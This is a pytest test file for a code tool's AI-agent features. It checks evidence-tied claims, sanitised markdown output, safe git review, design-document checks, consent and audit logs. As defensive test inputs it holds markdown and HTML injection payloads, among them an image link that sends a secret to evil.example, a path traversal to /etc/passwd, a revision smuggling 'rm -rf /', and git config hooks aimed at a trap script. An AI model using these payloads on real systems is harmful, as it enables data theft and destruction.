"""Explain, review, ask and design: what is said is tied to places that exist, and without a model the facts are told."""

from __future__ import annotations

import json
import re
import subprocess
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from architrave.analysis.agents import Answer, Ask, Design, Explain, Failed, FixAll, Proposal, Refactor, Refused, Review
from architrave.errors import ArchitraveError
from architrave_agents.arithmetic import wrong_sums
from architrave_agents.consent import has_consent, set_consent
from architrave_agents.evidence import UNTIED, Claims, Evidence
from architrave_agents.safe import safe
from tests.agents.conftest import ORDERS
from tests.agents.harness import Person, contents, outcome, written
from tests.agents.messages_api import MessagesApi, Text, Turn, Use, say, use
from tests.agents.test_refactor import TIMEOUT

FINDING = Explain(TIMEOUT.path, TIMEOUT.rule, TIMEOUT.subject)
TEXT = {"app/orders.py": ORDERS, "app/[id]/page.tsx": "export default 1;\n"}


def claims(text: str, policy: str = "dropped", pieces: int = 7) -> tuple[str, int]:
    collected = Claims(Evidence(TEXT.get, lambda path, line: f"<{path}:{line}>"), policy)  # type: ignore[arg-type]
    for at in range(0, len(text), pieces):
        collected.take(text[at : at + pieces])
    collected.end()
    return collected.text, collected.dropped


@pytest.mark.parametrize(
    ("claim", "shown"),
    [
        ("- It waits [app/orders.py:11].\n", "- It waits <app/orders.py:11>.\n"),
        ("- It waits [app/orders.py:11 `requests.get(`].\n", "- It waits <app/orders.py:11>.\n"),
        ("- It waits [app/orders.py:3 `requests.get(`].\n", "- It waits <app/orders.py:11>.\n"),  # The words are elsewhere.
        ("- It waits [app/orders.py:900 `requests.get(`].\n", "- It waits <app/orders.py:11>.\n"),
        ("- It waits `app/orders.py:11`.\n", "- It waits <app/orders.py:11>.\n"),
        ("- A page [app/[id]/page.tsx:1 `export default`].\n", "- A page <app/[id]/page.tsx:1>.\n"),
        ("- Two [app/orders.py:11], [app/orders.py:6].\n", "- Two <app/orders.py:11>, <app/orders.py:6>.\n"),
        ("It waits\nfor ever [app/orders.py:11].\n", "It waits\nfor ever <app/orders.py:11>.\n"),
        ("| a | b |\n|---|---|\n| x | [app/orders.py:11] |\n", "| a | b |\n|---|---|\n| x | <app/orders.py:11> |\n"),
    ],
)
def test_a_claim_with_evidence_that_holds_is_shown(claim: str, shown: str) -> None:
    assert claims(claim) == (shown, 0)


@pytest.mark.parametrize(
    "claim",
    [
        "- It waits.\n",
        "- It waits [app/orders.py:900].\n",
        "- It waits [app/orders.py:5].\n",  # An empty line.
        "- It waits [app/orders.py:0].\n",
        "- It waits [app/nothing.py:1].\n",
        "- It waits [app/orders.py:11 `requests.put(`].\n",
        "- It waits [app/orders.py:11], and [app/nothing.py:1].\n",
        "- It waits [../../etc/passwd:1].\n",
    ],
)
def test_a_claim_without_is_dropped_and_counted(claim: str) -> None:
    text, dropped = claims(f"## System\n\n- Good [app/orders.py:11].\n{claim}- Good too [app/orders.py:6].\n")
    assert text == "## System\n\n- Good <app/orders.py:11>.\n- Good too <app/orders.py:6>.\n"
    assert dropped == 1


def test_a_claim_without_a_place_is_marked_where_that_is_allowed() -> None:
    assert claims("Nobody knows.\n", "marked") == (f"Nobody knows.{UNTIED}\n", 0)
    assert claims("As follows:\n\n- x\n", "free") == ("As follows:\n\n- x\n", 0)


def test_code_is_shown_as_it_is() -> None:
    code = "```python\n- no claim [x](command:y) <b>\n```\n"
    assert claims(code) == (code, 0)
    assert claims("1. Do:\n   ```sh\n   ls\n   ```\n", "free")[0] == "1. Do:\n```sh\n   ls\n```\n"


@pytest.mark.parametrize(
    "text",
    [
        "[click](command:workbench.action.terminal.new)",
        "[click][1]\n\n[1]: command:evil",
        "![x](https://evil.example/?q=secret)",
        '<img src="https://evil.example/">',
        "<a href='command:evil'>x</a>",
        "<command:evil>",
        "`open [click](command:evil)",
        "a ` b\n`[click](command:evil)` `<img src=x>",
        "``` [click](command:evil)",
        "    ```\n[click](command:evil)\n    ```\n[click](command:evil)",
        "```\ncode\n\n[click](command:evil)",
        "> ```\n> [click](command:evil)\n[click](command:evil)",
        "- ```\n  [click](command:evil)\n- [click](command:evil)",
        "~~~\n```\n~~~\n[click](command:evil)",
        "<!-- --> <script>x</script>",
        "\\`[click](command:evil)\\`",
        "[a\n](command:evil)",
        "\x1b[2J\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    ],
)
def test_nothing_of_a_model_acts_or_loads(text: str) -> None:
    """As CommonMark reads it: no link, no image, no HTML, whatever the text looks like to us."""
    from markdown_it import MarkdownIt

    shown = safe(text)
    kinds = {token.type for block in MarkdownIt("commonmark").parse(shown) for token in (block, *(block.children or ()))}
    assert not kinds & {"link_open", "image", "html_block", "html_inline"}, shown
    assert "\x1b" not in shown


def test_ordinary_markdown_stays() -> None:
    text = "## A\n\n- **b** and `List<String>`, a < b\n- _c_\n\n| a | b |\n|---|---|\n\n```python\nx[0](1)\n```\n"
    assert safe(text) == text


# Explain


def test_an_explanation_is_streamed_tied_to_places_and_kept(shop: Path) -> None:
    person = Person()
    text = "The call waits for ever [app/orders.py:11 `requests.get`].\n\nIt is [app/gone.py:1].\n\nSo be it.\n"
    with MessagesApi(use("Callers", name="orders"), Turn((Text(text),))) as api:
        first = outcome(shop, FINDING, api, person)
        assert isinstance(first, Answer) and first.dropped == 1, first
        assert first.text.startswith("# `GET /items` to `stock.example.com` has no timeout\n\nThe call waits for ever `app/orders.py:11`.")
        assert f"So be it.{UNTIED}" in first.text and "app/gone.py" not in first.text
        assert "_1 claim was left out, for its evidence does not hold._" in first.text
        assert first.text.startswith(person.heard("text")) and "waits for ever" in person.heard("text")
        second = outcome(shop, FINDING, api)
        assert len(api.requests) == 2 and second.usage is None and "nothing was sent" in second.text
        assert "The call waits for ever `app/orders.py:11`." in second.text
        (shop / "app/orders.py").write_text(ORDERS.replace("return total([1, 2])", "return total([1])"))
        assert isinstance(outcome(shop, FINDING, api), Failed)  # Something that it rests on has changed, and the script has ended.
        assert len(api.requests) > 2


def test_what_is_said_on_the_way_to_a_tool_is_no_answer(shop: Path) -> None:
    chatter = Turn((Text("Let me look.\n\nFirst the callers.\n"), Use("Callers", {"name": "orders"})))
    person = Person()
    with MessagesApi(chatter, say("The call waits [app/orders.py:11].")) as api:
        found = outcome(shop, FINDING, api, person)
    assert "Let me look" not in found.text and ("reset", "") in person.told


def test_without_a_key_the_page_is_told_with_what_is_known(shop: Path) -> None:
    found = outcome(shop, FINDING, None)
    assert isinstance(found, Answer) and found.is_offline and found.usage is None
    for part in (
        "`app/orders.py:11`",
        "requests waits for ever unless told otherwise",
        "## Why it matters",
        "There is no key",
        "With a model",
    ):
        assert part in found.text, part


# Refactor


def test_without_a_key_the_fix_of_the_rule_is_offered_with_its_proof(shop: Path) -> None:
    found = outcome(shop, TIMEOUT, None)
    assert isinstance(found, Proposal) and b"timeout=10" in found.texts["app/orders.py"]
    assert "Made without a model" in found.text


def test_without_a_key_what_no_rule_can_mend_needs_one(tmp_path: Path) -> None:
    files = {"a.py": "from b import x\n\n\ndef y():\n    return x()\n", "b.py": "from a import y\n\n\ndef x():\n    return y()\n"}
    root = written(tmp_path / "ring", files)
    task = FixAll("", "sys-cyclic-dependency")
    found = outcome(root, task, None)
    assert isinstance(found, Failed | Proposal), found
    if isinstance(found, Failed):
        assert found.kind == "no-key" and "No rule can write this by itself." in found.text


def test_a_finding_that_is_gone_is_told(shop: Path) -> None:
    for task in (Refactor("app/orders.py", "sys-no-timeout", "other"), Explain("app/orders.py", "sys-no-timeout", "other")):
        assert isinstance(outcome(shop, task, None), Refused)


# Review


def git(root: Path, *arguments: str) -> None:
    identity = ("-c", "user.name=A", "-c", "user.email=a@example.com", "-c", "init.defaultBranch=main", "-c", "commit.gpgsign=false")
    subprocess.run(["git", *identity, *arguments], cwd=root, check=True, capture_output=True)


def test_a_review_stands_on_facts_and_on_evidence(shop: Path) -> None:
    said = "## System\n\n- It waits [app/orders.py:11 `requests.get`].\n- It is slow.\n- It is wrong [app/prices.py:99].\n\n## What to do first\n\n- This [app/orders.py:11].\n"
    with MessagesApi(Turn((Text(said),))) as api:
        found = outcome(shop, Review(), api)
    assert isinstance(found, Answer) and found.dropped == 2, found
    assert found.text.startswith("# Review of `shop`\n\n## System\n\n- It waits `app/orders.py:11`.\n\n## What to do first\n")
    assert "2 claims were left out" in found.text and "\n## Facts\n" in found.text and "- `GET /orders` `app/orders.py:9`" in found.text
    asked = api.requests[0]["messages"][0]["content"][0]["text"]
    assert "GET /orders" in asked and "sys-no-timeout" in asked


def test_a_review_of_a_change_says_what_it_did_to_the_findings(shop: Path) -> None:
    git(shop, "init", "-q")
    git(shop, "add", "-A")
    git(shop, "commit", "-qm", "first")
    text = ORDERS.replace('items")', 'items", timeout=5)').replace('@app.get("/totals")', '@app.get("/sums")')
    written(
        shop, {"app/orders.py": text, "app/rates.py": 'import requests\n\n\ndef rates():\n    return requests.get("https://r.example")\n'}
    )
    found = outcome(shop, Review("", "HEAD"), None)
    assert isinstance(found, Answer), found
    assert "2 files have changed, 7 lines added, 2 removed. Of the findings, 1 came with the change and 1 went." in found.text
    assert "## New findings\n\n- warning `sys-no-timeout` `app/rates.py:5`" in found.text
    assert "no route serves `GET /totals` any more" in found.text
    with MessagesApi(say("## System\n\n- It waits [app/rates.py:5].\n")) as api:
        with_model = outcome(shop, Review("", "HEAD"), api)
    assert "It waits `app/rates.py:5`" in with_model.text
    asked = api.requests[0]["messages"][0]["content"][0]["text"]
    assert '+@app.get("/sums")' in asked and "+++ b/app/rates.py" in asked


def test_a_change_in_a_buffer_counts(shop: Path) -> None:
    git(shop, "init", "-q")
    git(shop, "add", "-A")
    git(shop, "commit", "-qm", "first")
    found = outcome(shop, Review("", "main"), None, opened={"app/orders.py": ORDERS.replace('items")', 'items", timeout=5)').encode()})
    assert "1 file has changed, 1 line added" in found.text and "0 came with the change and 1 went" in found.text
    assert "| Files | 1 |" in found.text and "- `GET /orders` `app/orders.py:9`" in found.text


def test_a_review_of_a_change_leaves_out_what_has_not_changed(shop: Path) -> None:
    git(shop, "init", "-q")
    git(shop, "add", "-A")
    git(shop, "commit", "-qm", "first")
    written(shop, {"app/rates.py": "RATES = ()\n"})
    found = outcome(shop, Review("", "HEAD"), None)
    assert "| Files | 1 |" in found.text and "GET /orders" not in found.text and "Nothing was found." in found.text


@pytest.mark.parametrize("base", ["no-such", "--output=/tmp/x", "HEAD; rm -rf /"])
def test_a_revision_that_is_none_is_told(shop: Path, base: str) -> None:
    git(shop, "init", "-q")
    before = contents(shop)
    found = outcome(shop, Review("", base), None)
    assert isinstance(found, Failed) and f"`{base}`" in found.text
    assert contents(shop) == before


def test_a_repository_runs_nothing(shop: Path, tmp_path: Path) -> None:
    """What a repository configures, such as a program that watches files or shows differences, is not started."""
    git(shop, "init", "-q")
    git(shop, "add", "-A")
    git(shop, "commit", "-qm", "first")
    trap = tmp_path / "trap.sh"
    trap.write_text(f"#!/bin/sh\ntouch {tmp_path}/sprung\n")
    trap.chmod(0o755)
    for key in ("core.fsmonitor", "diff.external", "core.pager", "diff.x.textconv", "core.sshCommand"):
        git(shop, "config", key, str(trap))
    (shop / ".gitattributes").write_text("*.py diff=x\n")
    (shop / "app/prices.py").write_text("def total(lines):\n    return 0\n")
    assert isinstance(outcome(shop, Review("", "HEAD"), None), Answer)
    assert not (tmp_path / "sprung").exists()


# Ask


def test_a_question_is_answered_from_the_facts(shop: Path) -> None:
    script = (use("Facts", about="routes"), say("There are two routes [app/orders.py:9 `/orders`]."))
    with MessagesApi(*script) as api:
        found = outcome(shop, Ask("How many routes are there?"), api)
    assert "There are two routes `app/orders.py:9`." in found.text
    assert "GET /totals" in api.requests[1]["messages"][-1]["content"][0]["content"]
    assert not any(tool["name"] in ("Edit", "Write", "Check") for tool in api.requests[0]["tools"])


def test_without_a_key_a_question_gets_the_facts_that_it_is_about(shop: Path) -> None:
    found = outcome(shop, Ask("Which routes of our API are slow?"), None)
    assert isinstance(found, Answer) and found.is_offline
    assert "## Routes" in found.text and "GET /orders" in found.text and "`sys-no-timeout`" in found.text


# Design

FOLDER = "docs/design/social-feed-millions-users/"
DOCUMENT = """\
# A feed

## Context
There is `GET /orders` [app/orders.py:9 `/orders`].

## API
See the description.

## Data
Posts and follows.

## Services and queues

```mermaid
flowchart LR
  app --> queue
```

## Failure modes

| what fails | who notices |
|---|---|
| the queue | the alert |

## Security
Tokens.

## Capacity

- 2,000,000 users × 12 requests / 86,400 s ≈ 278 requests/s
- 278 requests/s × 2 KB = 556 KB/s

## Rollout
1. Behind a flag.

## Decisions
- adr/0001-fan-out-on-write.md
"""
OPENAPI = """\
openapi: 3.1.0
info: {title: Feed, version: "1"}
paths:
  /v1/feed:
    get:
      responses: {"200": {description: ok}}
"""
SCHEMA = "CREATE TABLE posts (id bigint PRIMARY KEY, author_id bigint NOT NULL);\nCREATE INDEX posts_author ON posts (author_id);\n"
FILES = {
    "design.md": DOCUMENT,
    "openapi.yaml": OPENAPI,
    "migrations/0001_feed.sql": SCHEMA,
    "adr/0001-fan-out-on-write.md": "# Fan out on write\n",
}
BRIEF = "a social feed for millions of users"


def writes(files: dict[str, str], folder: str = FOLDER) -> list[Turn]:
    return [use("Write", file_path=folder + path, content=text) for path, text in files.items()]


def test_a_design_is_a_document_with_its_files(shop: Path) -> None:
    before = contents(shop)
    with MessagesApi(*writes(FILES), use("Check"), say("Fan-out on write.")) as api:
        found = outcome(shop, Design(BRIEF), api)
    assert isinstance(found, Answer), found.text
    assert dict(found.files) == FILES and "There is `GET /orders` `app/orders.py:9`." in found.text
    assert "The sums are right" in found.text and contents(shop) == before
    assert "FAILED" not in api.requests[5]["messages"][-1]["content"][0]["content"]


def test_what_a_design_lacks_goes_back(shop: Path) -> None:
    poor = FILES | {"design.md": DOCUMENT.replace("## Rollout", "## Later").replace("≈ 278", "≈ 2,780"), "openapi.yaml": "openapi: 3.1.0\n"}
    mend = [
        use("Edit", file_path=FOLDER + "design.md", old_string="## Later", new_string="## Rollout"),
        use("Edit", file_path=FOLDER + "design.md", old_string="≈ 2,780", new_string="≈ 278"),
        use("Edit", file_path=FOLDER + "openapi.yaml", old_string="openapi: 3.1.0\n", new_string=OPENAPI),
    ]
    with MessagesApi(*writes(poor), say("Done."), *mend, say("Mended.")) as api:
        found = outcome(shop, Design(BRIEF), api)
    assert isinstance(found, Answer), found.text
    told = api.requests[5]["messages"][-1]["content"][-1]["text"]
    assert "missing" not in told and "`## Rollout`" in told and "has no operation" in told and "it is 277.8" in told


def test_a_design_writes_nowhere_else(shop: Path) -> None:
    with MessagesApi(use("Write", file_path="app/feed.py", content="x = 1\n"), *writes(FILES), say("Done.")) as api:
        found = outcome(shop, Design(BRIEF), api)
    assert isinstance(found, Answer) and set(found.files) == set(FILES)
    assert "`app/feed.py` does not" in api.requests[1]["messages"][-1]["content"][0]["content"]


def test_a_scaffold_passes_the_rules(shop: Path) -> None:
    bad = use(
        "Write", file_path="app/feed.py", content='import requests\n\n\ndef feed():\n    return requests.get("https://f.example.com")\n'
    )
    mend = use("Edit", file_path="app/feed.py", old_string='example.com")', new_string='example.com", timeout=5)')
    with MessagesApi(*writes(FILES), bad, say("Done."), mend, say("Mended.")) as api:
        found = outcome(shop, Design(BRIEF, True), api)
    assert isinstance(found, Proposal), found.text
    assert "app/feed.py" in found.texts and len(found.texts) == 5
    assert "`sys-no-timeout`" in api.requests[6]["messages"][-1]["content"][-1]["text"]


def test_without_a_key_a_design_is_the_inventory_and_what_is_open(shop: Path) -> None:
    found = outcome(shop, Design(BRIEF), None)
    assert isinstance(found, Answer) and found.is_offline
    assert (
        "- Routes: 2, 0 of them guarded" in found.text
        and "## What is to be decided" in found.text
        and "**Capacity**: how many" in found.text
    )


@pytest.mark.parametrize(
    ("line", "wrong"),
    [
        ("2,000,000 users × 12 requests / 86,400 s ≈ 278 requests/s", 0),
        ("2,000,000 users × 12 requests / 86,400 s ≈ 2,780 requests/s", 1),
        ("10 × 3 = 31", 1),
        ("10 × 3 = 30", 0),
        ("500 GB + 250 GB = 750 GB", 0),
        ("500 GB + 250 GB = 800 GB", 1),
        ("278 requests/s × 2 KB = 0.556 MB/s", 0),
        ("1.5 million × 4 = 6M", 0),
        ("40% × 250 = 100", 0),
        ("3 × $0.20 = $0.60 a month", 0),
        ("p95 = 200 ms", 0),
        ("from 3 to 5 replicas", 0),
        ("2026-11-25 at 10:30", 0),
        ("10 / 0 = 5", 0),
    ],
)
def test_sums_are_worked_out_again(line: str, wrong: int) -> None:
    assert len(list(wrong_sums(line))) == wrong


def test_the_log_has_hashes_and_counts_and_no_code(shop: Path, user: Path) -> None:
    with MessagesApi(use("Read", file_path="app/orders.py"), say("The call waits [app/orders.py:11].")) as api:
        outcome(shop, FINDING, api)
    [log] = (user / "state/architrave/audit").iterdir()
    lines = [json.loads(line) for line in log.read_text().splitlines()]
    assert [line["event"] for line in lines] == ["consent", "turn", "turn", "end"]
    assert lines[-1]["outcome"] == "Answer" and lines[1]["host"] == f"127.0.0.1:{api.port}"
    assert all(re.fullmatch(r"[0-9a-f]{32}", line[key]) for line in lines[1:3] for key in ("request", "response"))
    assert lines[1]["cost"] > 0 and not re.search(r"requests|orders|sk-ant|waits", log.read_text())
    assert (log.stat().st_mode & 0o077) == 0


def test_consents_that_are_given_at_once_are_all_kept(tmp_path: Path) -> None:
    folders = [tmp_path / f"shop{index}" for index in range(24)]
    with ThreadPoolExecutor(8) as pool:
        list(pool.map(lambda folder: set_consent(folder, "localhost", is_given=True), folders))
    assert all(has_consent(folder, "localhost") for folder in folders)


def test_consent_is_asked_once_for_a_host_and_can_be_withdrawn(shop: Path) -> None:
    from architrave_agents.provider import AGENTS

    person = Person()
    script = say("The call waits [app/orders.py:11].")
    with MessagesApi(script, repeats=True) as api, MessagesApi(script, repeats=True) as other:
        settings = {"baseUrl": api.url, "key": api.key}
        outcome(shop, FINDING, api, person)
        outcome(shop, Ask("why?"), api, person)
        assert len(person.requests) == 1 and "app/orders.py" in person.requests[0].files
        outcome(shop, Ask("why?"), other, person)
        assert len(person.requests) == 2
        AGENTS.set_consent(shop, settings, is_given=False)
        refusing = Person(agrees=False)
        count = len(api.requests)
        assert outcome(shop, Ask("why not?"), api, refusing).text.count("You have not agreed") == 1
        assert len(api.requests) == count and len(refusing.requests) == 1


def test_prompts_have_all_their_values() -> None:
    from architrave_agents.prompts import prompt

    with pytest.raises(KeyError):
        prompt("refactor")
    assert "${" not in prompt("refactor", what="$this") and "$this" in prompt("refactor", what="$this")


def test_a_mistake_is_no_fault_of_ours(shop: Path) -> None:
    found = outcome(shop, Ask("x"), None, agent="nobody")
    assert isinstance(found, Failed) and found.kind == "request"
    assert not isinstance(found, ArchitraveError)
